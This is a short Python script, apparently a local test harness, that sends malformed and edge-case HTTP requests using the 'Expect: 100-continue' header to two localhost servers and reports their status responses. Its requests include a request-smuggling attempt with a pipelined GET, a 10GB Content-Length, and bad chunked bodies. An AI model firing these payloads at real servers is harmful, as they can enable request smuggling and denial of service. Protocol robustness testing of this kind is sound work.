#!/usr/bin/env python3
"""100-continue abuse. usage: expect.py STATIC_PORT APP_PORT (APP = repro/capi/myapp)"""
import socket, sys, time, re
SP, AP = int(sys.argv[1]), int(sys.argv[2])
def go(port, data, then=b"", wait=1.0):
    s = socket.create_connection(("127.0.0.1", port), timeout=wait); s.sendall(data)
    out = b""; 
    try:
        time.sleep(0.2); out += s.recv(65536)
        if then: s.sendall(then)
        while True:
            d = s.recv(65536)
            if not d: break
            out += d
    except Exception as e: out += b"<<" + type(e).__name__.encode() + b">>"
    s.close(); return " | ".join(x.decode() for x in re.findall(rb"HTTP/1\.[01] \d+|<<\w+>>", out))
pipe = b"GET /a.txt HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
print("static GET, Expect+CL 10GB, then pipelined GET:", go(SP, b"GET /a.txt HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: 10000000000\r\n\r\n", pipe))
print("static GET, Expect+CL 5, body, then GET      :", go(SP, b"GET /a.txt HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\n", b"hello" + pipe))
print("static GET, Expect+CL 5, no body, then GET   :", go(SP, b"GET /a.txt HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\n", pipe))
print("HTTP/1.0 Expect                              :", go(SP, b"GET /a.txt HTTP/1.0\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\nhello"))
print("two Expect headers                           :", go(SP, b"GET /a.txt HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nExpect: 100-continue\r\n\r\n"))
print("Expect: 100-Continue (case)                  :", go(SP, b"GET /a.txt HTTP/1.1\r\nHost: x\r\nExpect: 100-Continue\r\nConnection: close\r\n\r\n"))
print("app POST over max_body w/ Expect             :", go(AP, b"POST /echo-len HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: 9000000\r\n\r\n"))
print("app POST ok w/ Expect                        :", go(AP, b"POST /echo-len HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\n", b"hello" + pipe))
print("app POST Expect, body sent anyway + smuggle  :", go(AP, b"POST /echo-len HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\nhello" + pipe))
print("app blocking POST Expect                     :", go(AP, b"POST /slow HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: 5\r\nConnection: close\r\n\r\n", b"hello", wait=3))
print("app POST chunked, bad chunk after 100        :", go(AP, b"POST /echo-len HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nTransfer-Encoding: chunked\r\n\r\n", b"5\r\nhelloXX" + pipe))
